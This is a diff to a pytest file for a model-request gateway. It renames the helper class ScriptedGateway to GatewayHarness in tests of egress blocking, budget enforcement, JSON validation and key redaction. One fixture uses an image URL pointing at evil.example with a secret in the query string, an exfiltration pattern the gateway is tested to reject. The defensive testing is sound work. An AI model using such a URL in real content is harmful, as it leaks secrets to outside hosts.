@@ -26,7 +26,7 @@ IMAGE = {"type": "image", "source": {"type": "base64", "media_type": "image/png"
 URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?q=secret"}}
 
 
-class ScriptedGateway:
+class GatewayHarness:
     """A gateway that sends model requests to a scripted upstream."""
 
     def __init__(self, rules: GatewayRules, redact=str, key: str = SERVER_KEY) -> None:
@@ -292,15 +292,15 @@ HARMLESS = {
 @pytest.mark.parametrize("kind", [[], ["image"], {}, {"type": "x"}, 7, True, None])
 def test_arbitrary_type_does_not_raise(kind):
     block = {"type": kind, "source": "x", "name": ["x"]}
-    assert ScriptedGateway(ISOLATED).send(request(message(block), within_result(block)))[0] in (None, 403)
-    assert ScriptedGateway(ISOLATED).send(request(tools=[{"name": "x", "part": block}]))[0] in (None, 403)
+    assert GatewayHarness(ISOLATED).send(request(message(block), within_result(block)))[0] in (None, 403)
+    assert GatewayHarness(ISOLATED).send(request(tools=[{"name": "x", "part": block}]))[0] in (None, 403)
 
 
 @pytest.mark.parametrize("rules", [ISOLATED, OUTBOUND])
 @pytest.mark.parametrize("name", EXTERNAL)
 @pytest.mark.parametrize("target", ["/v1/messages?beta=true", "/v1/messages/count_tokens"])
 def test_external_access_is_rejected_and_reported(rules, name, target):
-    gateway = ScriptedGateway(rules)
+    gateway = GatewayHarness(rules)
     status, reason, _ = gateway.send(EXTERNAL[name], target=target)
     assert status == 403
     assert "access the network" in reason
@@ -310,7 +310,7 @@ def test_external_access_is_rejected_and_reported(rules, name, target):
 
 @pytest.mark.parametrize("name", EXTERNAL)
 def test_external_access_is_forwarded_with_unrestricted_egress(name):
-    gateway = ScriptedGateway(FULL)
+    gateway = GatewayHarness(FULL)
     status, _, forwarded = gateway.send(EXTERNAL[name])
     assert status is None
     assert forwarded.endswith(json.dumps(EXTERNAL[name]).encode())
@@ -320,7 +320,7 @@ def test_external_access_is_forwarded_with_unrestricted_egress(name):
 @pytest.mark.parametrize("rules", [ISOLATED, OUTBOUND, FULL])
 @pytest.mark.parametrize("name", HARMLESS)
 def test_content_of_claude_code_requests_is_unchanged(rules, name):
-    gateway = ScriptedGateway(rules)
+    gateway = GatewayHarness(rules)
     status, reason, forwarded = gateway.send(HARMLESS[name])
     assert status is None, reason
     assert json.loads(forwarded.partition(b"\r\n\r\n")[2]) == HARMLESS[name]
@@ -335,21 +335,19 @@ def test_content_of_claude_code_requests_is_unchanged(rules, name):
     ],
 )
 def test_duplicate_json_keys_are_forwarded_once(body):
-    status, _, forwarded = ScriptedGateway(ISOLATED).send(body)
+    status, _, forwarded = GatewayHarness(ISOLATED).send(body)
     assert status is None
     assert b"web_search" not in forwarded
     assert b"url" not in forwarded
 
 
 def test_last_duplicate_json_key_is_inspected():
-    assert (
-        ScriptedGateway(ISOLATED).send(b'{"model":"m","tools":[],"tools":[{"type":"web_search_20250305"}]}')[0] == 403
-    )
+    assert GatewayHarness(ISOLATED).send(b'{"model":"m","tools":[],"tools":[{"type":"web_search_20250305"}]}')[0] == 403
 
 
 def test_gateway_sets_the_content_type_of_the_reserialized_body():
     headers = ("Content-Type: application/json; charset=utf-7", "Content-Encoding: gzip")
-    _, _, forwarded = ScriptedGateway(ISOLATED).send(
+    _, _, forwarded = GatewayHarness(ISOLATED).send(
         b' {"model" : "m" , "n": 1.0, "big": 18446744073709551615} ', *headers
     )
     head, _, body = forwarded.partition(b"\r\n\r\n")
@@ -364,19 +362,19 @@ def test_gateway_sets_the_content_type_of_the_reserialized_body():
     [b"", b"[]", b"1", b"nonsense", b'{"model":1}', b"\xff", b'{"a":"\xff"}', b'{"a":1}x', b"[" * 100_000, b"\x1f\x8b"],
 )
 def test_invalid_body_is_rejected(body):
-    assert ScriptedGateway(ISOLATED).send(body)[0] == 400
+    assert GatewayHarness(ISOLATED).send(body)[0] == 400
 
 
 def test_body_with_too_many_json_values_is_rejected(monkeypatch):
     monkeypatch.setattr(request_checks, "REQUEST_JSON_VALUES_MAX", 1000)
-    assert ScriptedGateway(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 498))[0] is None
-    assert ScriptedGateway(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 500))[0] == 413
+    assert GatewayHarness(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 498))[0] is None
+    assert GatewayHarness(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 500))[0] == 413
 
 
 def test_secret_in_the_name_of_an_unpriced_model_is_redacted():
     secret = "s3cr3t" * 40
     rules = GatewayRules(budget=Budget(usd=1.0))
-    gateway = ScriptedGateway(rules, lambda text: text.replace(secret, "[REDACTED]"))
+    gateway = GatewayHarness(rules, lambda text: text.replace(secret, "[REDACTED]"))
     status, reason, _ = gateway.send({"model": f"a{secret}", "messages": []})
     assert status == 402
     assert "The model a[REDACTED] has no price" in reason
@@ -401,7 +399,7 @@ def test_overlong_string_is_rejected_before_redaction(name, target):
         inspected.append(text)
         return text
 
-    gateway = ScriptedGateway(GatewayRules(budget=Budget(usd=1.0)), redact)
+    gateway = GatewayHarness(GatewayRules(budget=Budget(usd=1.0)), redact)
     status, reason, _ = gateway.send(OVERLONG_STRINGS[name], target=target)
     assert status in (400, 403)
     assert OVERLONG[:10] not in reason
@@ -413,11 +411,11 @@ def test_long_names_in_data_are_forwarded_and_so_are_strings_of_the_maximum_leng
     call = {"type": "tool_use", "id": "t", "name": "x", "input": {OVERLONG: {"type": OVERLONG}}}
     tools = [{"name": "x", "input_schema": {"type": "object", "properties": {OVERLONG: {"type": OVERLONG}}}}]
     body = request(message(text, {"type": OVERLONG[1:]}, call), tools=tools)
-    assert ScriptedGateway(ISOLATED).send(body)[0] is None
+    assert GatewayHarness(ISOLATED).send(body)[0] is None
 
 
 def test_string_of_the_maximum_length_is_reported():
-    _, reason, _ = ScriptedGateway(ISOLATED).send(request(tools=[{"type": OVERLONG[1:], "name": "x"}]))
+    _, reason, _ = GatewayHarness(ISOLATED).send(request(tools=[{"type": OVERLONG[1:], "name": "x"}]))
     assert OVERLONG[2:256] in reason
 
 
@@ -435,7 +433,7 @@ UNKNOWN_ADVISOR = {"type": "advisor_20260301", "name": "advisor", "model": "nobo
 )
 def test_unpriced_additional_model_is_rejected_with_a_usd_budget(fields):
     usd_gateway, token_gateway = (
-        ScriptedGateway(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
+        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
     )
     status, reason, _ = usd_gateway.send(request() | fields)
     assert (status, reason.partition(" in Sandbox")[0]) == (402, "The model nobody-knows-it has no price")
@@ -459,7 +457,7 @@ def test_unpriced_additional_model_is_rejected_with_a_usd_budget(fields):
 )
 def test_fallbacks_of_unknown_cost_are_rejected_with_a_usd_budget(fallbacks):
     usd_gateway, token_gateway = (
-        ScriptedGateway(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
+        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
     )
     status, reason, _ = usd_gateway.send(request(fallbacks=fallbacks))
     assert status == 402
@@ -472,14 +470,14 @@ def test_fallbacks_of_unknown_cost_are_rejected_with_a_usd_budget(fallbacks):
     "fallbacks", [None, [], "default", [{"model": "claude-opus-4-8", "max_tokens": 9, "speed": "standard"}]]
 )
 def test_fallbacks_of_claude_code_are_forwarded_with_a_usd_budget(fallbacks):
-    assert ScriptedGateway(GatewayRules(budget=Budget(usd=1.0))).send(request(fallbacks=fallbacks))[0] is None
+    assert GatewayHarness(GatewayRules(budget=Budget(usd=1.0))).send(request(fallbacks=fallbacks))[0] is None
 
 
 @pytest.mark.parametrize("fields", [{"speed": "fast"}, {"inference_geo": "us"}, {"speed": ["fast"]}])
 def test_surcharged_request_is_rejected_with_a_usd_budget(fields):
     body = {"model": "claude-opus-5-5", "messages": []}
     usd_gateway, token_gateway = (
-        ScriptedGateway(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
+        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
     )
     status, reason, _ = usd_gateway.send(body | fields)
     assert (status, reason.partition(" costs")[0]) == (402, f"A request with '{next(iter(fields))}'")
@@ -492,7 +490,7 @@ def test_surcharged_request_is_rejected_with_a_usd_budget(fields):
 @pytest.mark.parametrize("name", ["tools", "Tools"])
 def test_server_tool_with_unknown_fee_is_rejected_if_there_is_a_usd_budget(name, tool):
     usd_gateway, token_gateway = (
-        ScriptedGateway(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=budget))
+        GatewayHarness(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=budget))
         for budget in (Budget(usd=1.0), Budget(tokens=1000))
     )
     body = request(**{name: [{"name": "Bash"}, {"type": tool, "name": "x"}]})
@@ -506,7 +504,7 @@ def test_server_tool_with_unknown_fee_is_rejected_if_there_is_a_usd_budget(name,
 
 @pytest.mark.parametrize("name", HARMLESS)
 def test_tools_with_known_fees_are_forwarded_with_a_usd_budget(name):
-    gateway = ScriptedGateway(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=Budget(usd=1.0)))
+    gateway = GatewayHarness(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=Budget(usd=1.0)))
     places = {"user_location": {"type": "approximate", "city": "x"}, "allowed_domains": ["docs.example.org"]}
     servers = {"type": "mcp_toolset", "mcp_server_name": "x", "configs": {"Tool-1": {"enabled": True}}}
     server_tools: list[dict[str, Any]] = [
@@ -523,7 +521,7 @@ def test_tools_with_known_fees_are_forwarded_with_a_usd_budget(name):
 # The server's key
 
 
-def client_responses(gateway: ScriptedGateway, *statuses: int, body: bytes = b"{}") -> list[tuple[int, str]]:
+def client_responses(gateway: GatewayHarness, *statuses: int, body: bytes = b"{}") -> list[tuple[int, str]]:
     """Return the client's responses if the upstream responds to successive requests with these statuses."""
     responses = []
     for status in statuses:
@@ -543,7 +541,7 @@ def client_responses(gateway: ScriptedGateway, *statuses: int, body: bytes = b"{
 
 @pytest.mark.parametrize("status", [401, 403])
 def test_rejected_server_key_is_reported_once_and_ends_requests(status):
-    gateway = ScriptedGateway(ISOLATED)
+    gateway = GatewayHarness(ISOLATED)
     responses = client_responses(gateway, status, 200)
     assert [expected for expected, _ in responses] == [403, 403], (
         "403, because Claude Code retries for minutes after a 401"
@@ -553,7 +551,7 @@ def test_rejected_server_key_is_reported_once_and_ends_requests(status):
     assert [event for event in gateway.events if isinstance(event, KeyRejected)] == [KeyRejected(expected)]
 
 
-def key_rejections(gateway: ScriptedGateway) -> list[str]:
+def key_rejections(gateway: GatewayHarness) -> list[str]:
     return [event.message for event in gateway.events if isinstance(event, KeyRejected)]
 
 
@@ -575,7 +573,7 @@ def error_body(message: object) -> bytes:
     ],
 )
 def test_upstream_message_about_a_rejected_key_is_quoted_only_in_the_report(message, quoted):
-    gateway = ScriptedGateway(ISOLATED, lambda text: text.replace("hunter2", "[REDACTED]"))
+    gateway = GatewayHarness(ISOLATED, lambda text: text.replace("hunter2", "[REDACTED]"))
     [(status, content)] = client_responses(gateway, 401, body=error_body(message))
     assert key_rejections(gateway) == [
         f"The model at up.example rejected the server's key (401){quoted}; check the key."
@@ -587,7 +585,7 @@ def test_upstream_message_about_a_rejected_key_is_quoted_only_in_the_report(mess
 
 
 def test_server_key_in_the_message_is_redacted():
-    gateway = ScriptedGateway(ISOLATED)
+    gateway = GatewayHarness(ISOLATED)
     key = gateway.connect()._upstream.credential[1]
     client_responses(gateway, 401, body=error_body(f"Incorrect API key: {key.decode()}"))
     assert "Incorrect API key: " in key_rejections(gateway)[0]
@@ -604,7 +602,7 @@ def test_server_key_in_the_message_is_redacted():
     ],
 )
 def test_server_key_with_json_escapes_in_the_message_is_redacted(shown, quoted):
-    gateway = ScriptedGateway(ISOLATED, key="gw-live-9f8e7d6c5b4a==")
+    gateway = GatewayHarness(ISOLATED, key="gw-live-9f8e7d6c5b4a==")
     body = b'{"error": {"message": "The key ' + shown + b' may not use this model"}}'
     client_responses(gateway, 403, body=body)
     assert key_rejections(gateway) == [
@@ -615,7 +613,7 @@ def test_server_key_with_json_escapes_in_the_message_is_redacted(shown, quoted):
 
 @pytest.mark.parametrize("end", ["eof", "timeout", "failure"])
 def test_rejected_key_is_reported_even_if_the_body_does_not_end(end):
-    gateway = ScriptedGateway(ISOLATED)
+    gateway = GatewayHarness(ISOLATED)
     protocol = gateway.connect()
     head = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nX-Api-Key: {TASK_KEY}\r\nContent-Length: 2\r\n\r\n"
     protocol.client_data_received(head.encode() + b"{}")
@@ -630,7 +628,7 @@ def test_rejected_key_is_reported_even_if_the_body_does_not_end(end):
 
 
 def test_accepted_key_is_not_reported_for_a_later_403():
-    gateway = ScriptedGateway(ISOLATED)
+    gateway = GatewayHarness(ISOLATED)
     assert client_responses(gateway, 200, 403, 200) == [(200, "{}"), (403, "{}"), (200, "{}")]
     assert not [event for event in gateway.events if isinstance(event, KeyRejected)]
     assert client_responses(gateway, 401)[0][0] == 403
@@ -639,6 +637,6 @@ def test_accepted_key_is_not_reported_for_a_later_403():
 
 @pytest.mark.parametrize("status", [400, 404, 429, 500, 529])
 def test_error_responses_other_than_401_are_forwarded(status):
-    gateway = ScriptedGateway(ISOLATED)
+    gateway = GatewayHarness(ISOLATED)
     assert client_responses(gateway, status, 200) == [(status, "{}"), (200, "{}")]
     assert not [event for event in gateway.events if isinstance(event, KeyRejected)]
